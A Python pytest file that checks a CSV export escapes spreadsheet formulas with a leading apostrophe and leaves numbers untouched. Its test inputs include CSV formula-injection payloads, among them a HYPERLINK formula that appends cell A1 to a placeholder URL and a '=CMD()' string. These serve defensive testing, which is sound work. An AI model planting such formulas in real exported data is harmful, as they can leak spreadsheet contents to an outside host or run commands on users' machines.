"""CSV for spreadsheets: a text never becomes a formula, and a number stays one."""

import csv
import io

import pytest

from lib.csv_text import csv_bytes
from services.api.tables import csv_of


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x?"&A1,"y")'])
def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_bytes([[text, "plain"]]).decode(), newline=""))
    assert row == [f"'{text}", "plain"]


def test_numbers_empty_cells_and_other_texts_stay_as_they_are() -> None:
    assert csv_bytes([[-1, -2.5, None, "a-b", "1", True, 'say "x", y']]) == b'-1,-2.5,,a-b,1,True,"say ""x"", y"\r\n'


@pytest.mark.parametrize(
    ("result", "expected"),
    [
        ({"top_locations": {"=CMD()": 3, "N LAMAR": -1}}, b"top_locations,count\r\n'=CMD(),3\r\nN LAMAR,-1\r\n"),
        ([{"=a": "@b", "n": -1}], b"'=a,n\r\n'@b,-1\r\n"),
        ({"a": ["+1", "x"], "b": [1, 2]}, b"a,b\r\n'+1,1\r\nx,2\r\n"),
        ({"a": "-x", "b": -2}, b"a,b\r\n'-x,-2\r\n"),
    ],
)
def test_results_as_csv_hold_no_formula(result: object, expected: bytes) -> None:
    assert csv_of(result) == expected
